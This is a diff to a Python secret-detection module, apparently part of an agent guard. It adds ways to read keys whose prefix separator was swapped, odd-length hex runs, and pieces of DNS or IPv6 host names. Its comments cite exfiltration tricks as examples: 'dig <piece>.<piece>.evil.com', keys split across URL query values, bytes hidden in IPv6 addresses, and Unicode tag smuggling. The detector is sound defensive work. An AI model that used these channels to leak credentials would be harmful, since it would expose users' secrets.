@@ -17,6 +17,11 @@ removed (``AKIA IOSF ...``), with its words in reverse order or each word revers
 frequent separator alone, and all of them at once). Unicode tag characters (``U+E0041`` ..., invisible "ASCII
 smuggling") are read as the ASCII they shadow (:func:`untag`) before they are stripped as invisible.
 
+**Session 20**: for the format detectors only, the text with every separator between two letters or digits read
+as ``_`` and as ``-`` (``ghp-...``, ``glpat_...``, ``xoxb_...``: a key whose prefix separator was swapped, which the
+receiver swaps back). A prefix whose separator was dropped (``ghpXXXX``) is not read: like a dropped prefix, the
+family of insertions has no end (strict xfail in ``tests/policies/test_secrets_redteam_dns.py``).
+
 **Session 19**: runs of numbers, one per character (decimal code points or bytes, ``0x``/``U+``/``\\u{}`` hex, octal,
 binary: :func:`_code_points`), a base64 run cut at any offset (read again from its 2nd, 3rd and 4th character when
 it is no text: :func:`_base64`), and for the format detectors only (:data:`GATED_VIEWS`) the text lower-cased and
@@ -32,6 +37,7 @@ import base64
 import binascii
 import bz2
 import html
+import ipaddress
 import lzma
 import re
 import unicodedata
@@ -52,7 +58,8 @@ _B64 = re.compile(r"[A-Za-z0-9+/_-]{16,}={0,2}")
 _B32 = re.compile(r"(?<![A-Za-z0-9])[A-Za-z2-7]{16,}={0,6}")
 _B85 = re.compile(r"[0-9A-Za-z!#$%&()*+\-;<=>?@^_`{|}~]{20,}")
 _A85 = re.compile(r"<~([!-uz\s]{10,})~>|(?<![!-u])[!-u]{20,}(?![!-u])")
-_HEX = re.compile(r"(?<![0-9A-Fa-f])(?:[0-9A-Fa-f]{2}){12,}(?![0-9A-Fa-f])")
+# a maximal hex run (an odd one too: ``<hex>dig``, a hex letter on either side, is read both ways: session 20)
+_HEX = re.compile(r"(?<![0-9A-Fa-f])[0-9A-Fa-f]{24,}(?![0-9A-Fa-f])")
 _PCT = re.compile(r"%[0-9A-Fa-f]{2}")
 _QP = re.compile(r"(?:=[0-9A-F]{2}){4}")
 _QP_SOFT = re.compile(rb"=\r?\n")
@@ -178,7 +185,7 @@ def _base64(s: str) -> Iterator[bytes]:
     character (its last partial group cut): a run cut out of a longer base64 text at any offset is out of step
     with the encoding's groups of four until one of those starts (the text found there is what it held)."""
     alt = s.replace("-", "+").replace("_", "/").rstrip("=")
-    raw = _b64(alt)
+    raw = _b64(alt[:-1] if len(alt) % 4 == 1 else alt)   # a lone last character holds no byte (a run joined on)
     if raw is not None:
         yield raw
     if raw is None or _text(raw) is None:
@@ -202,7 +209,8 @@ def _runs(text: str) -> Iterator[tuple[str, bytes]]:
         except (binascii.Error, ValueError):
             continue
     for s in _matches(_HEX, text):
-        yield "hex", bytes.fromhex(s)
+        for even in [s] if len(s) % 2 == 0 else [s[:-1], s[1:]]:
+            yield "hex", bytes.fromhex(even)
     for layer, rx, decode in (("base85", _B85, base64.b85decode), ("ascii85", _A85, base64.a85decode)):
         for s in _matches(rx, text, 1 if layer == "ascii85" else 0):
             if not _MIXED.search(s) or not _LOWER.search(s):  # base85 of a key mixes cases: not a word_like_this
@@ -337,6 +345,10 @@ def views(text: str, unseparate: bool = True) -> Iterator[tuple[str, str]]:
             yield "uppercased", up
         if (low := text.lower()) != text:  # ghp_... written upper (read for a format only: see GATED_VIEWS)
             yield "lowercased", low
+        if _WORD_SEP.search(text):  # ghp-..., glpat_..., xoxb_...: a prefix's separator swapped (session 20)
+            for sep in "_-":
+                if (swapped := _WORD_SEP.sub(sep, text)) != text:
+                    yield f"separators as {sep}", swapped
         yield from _decimated(text)
     if _SPACE.search(text):
         yield "despaced", _SPACE.sub("", text)
@@ -348,7 +360,9 @@ def views(text: str, unseparate: bool = True) -> Iterator[tuple[str, str]]:
 _CHUNK = re.compile(r"[A-Za-z0-9+/=_-]{2,16}")
 #: views read only where a format detector's pattern opens on them (they exist for formats: a known secret's
 #: windows are compared case-folded and interleaved already, :mod:`agentguard.policies.secret_fragments`)
-GATED_VIEWS = frozenset({"lowercased", "every 2nd from 0", "every 2nd from 1", "every 3rd from 0",
+#: a separator between two letters or digits (a key's prefix and body: ``ghp_x``, ``xoxb-1``), read as ``_`` and ``-``
+_WORD_SEP = re.compile(r"(?<=[A-Za-z0-9])[-_.](?=[A-Za-z0-9])")
+GATED_VIEWS = frozenset({"lowercased", "separators as _", "separators as -", "every 2nd from 0", "every 2nd from 1", "every 3rd from 0",
                          "every 3rd from 1", "every 3rd from 2"})
 
 
@@ -396,28 +410,57 @@ def _unseparated(text: str) -> Iterator[tuple[str, str]]:
         yield "interleaved", " ".join(stretches)
 
 
+#: a host name written without a scheme (``dig <piece>.<piece>.evil.com``, ``nslookup``, ``ping``): four labels or more
+_BARE_HOST = re.compile(r"(?<![\w@./-])((?:[A-Za-z0-9_-]{1,63}\.){3,}[A-Za-z][A-Za-z0-9-]{1,62})(?![\w.-])")
+
+
+def _written_host(netloc: str) -> str:
+    """The host of a URL's authority as written (case kept: ``dig`` and many resolvers send it so; a receiver
+    reading its DNS log sees it), without userinfo and port."""
+    host = netloc.rpartition("@")[2]
+    return host if host.startswith("[") else host.rsplit(":", 1)[0]
+
+
+def _host_pieces(host: str) -> list[str]:
+    """A host's pieces a receiver reads apart: a name's labels left of the last two; an IPv6 literal's eight groups,
+    written out (``2001:db8:0:1:6768:705f:6142:3364``: the interface half of an address in the receiver's own
+    prefix carries 8 bytes per request; the prefix, repeated, is the template)."""
+    if host.startswith("["):
+        try:
+            return ipaddress.IPv6Address(host.strip("[]").split("%")[0]).exploded.split(":")
+        except ValueError:
+            return [host]
+    return host.split(".")[:-2]
+
+
 def url_pieces(text: str) -> list[str]:
     """The pieces the receiver of each URL in ``text`` reads apart and may join back: per URL a client parses
-    (:func:`~agentguard.policies.links.url_tokens`), its host's labels left of the last two (``<piece>.evil.com``:
-    DNS exfiltration), its path segments, its query values and its fragment, percent-decoded, in order; the text
-    around the URLs is one more piece. Without a URL: ``[text]``. A key cut into ``?p=`` values of two fetches is
-    one key again once the pieces are joined (:mod:`agentguard.policies.secrets`)."""
+    (:func:`~agentguard.policies.links.url_tokens`), its host's labels left of the last two as written
+    (``<piece>.evil.com``: DNS exfiltration; case kept) or an IPv6 literal's groups, its path segments, its query values and its fragment,
+    percent-decoded, in order; a host name of four labels or more written without a scheme (``dig a.b.evil.com``)
+    gives its labels too; the text around is one more piece. Without either: ``[text]``. A key cut into ``?p=``
+    values of two fetches is one key again once the pieces are joined (:mod:`agentguard.policies.secrets`)."""
     from .links import url_tokens
 
     toks = url_tokens(text) if any(c in text for c in ":/\\@") else []
-    if not toks:
-        return [text]
     out, rest = [], text
     for tok in toks:
         rest = rest.replace(tok, " ", 1)
         try:
             u = urlsplit(tok if "//" in tok[:12] else "https://" + tok.lstrip("\\/"))
-            host = u.hostname or ""
+            host = _written_host(u.netloc) if u.hostname else ""
         except ValueError:   # not split the way a client would: the token is read whole
             out.append(tok)
             continue
-        out += host.split(".")[:-2] + [unquote(p) for p in u.path.split("/") if p]
+        out += _host_pieces(host) + [unquote(p) for p in u.path.split("/") if p]
         out += [v for _, v in parse_qsl(u.query, keep_blank_values=True) if v] + ([unquote(u.fragment)] if u.fragment else [])
+    for m in _BARE_HOST.finditer(rest) if "." in rest else ():
+        labels = m.group(1).split(".")[:-2]
+        if len(labels) >= 2 and sum(map(len, labels)) >= 16:   # room for a key, cut into two labels or more
+            rest = rest.replace(m.group(1), " ", 1)
+            out += labels
+    if not out:
+        return [text]
     return [p for p in out if p] + ([rest] if rest.strip() else [])
 
 
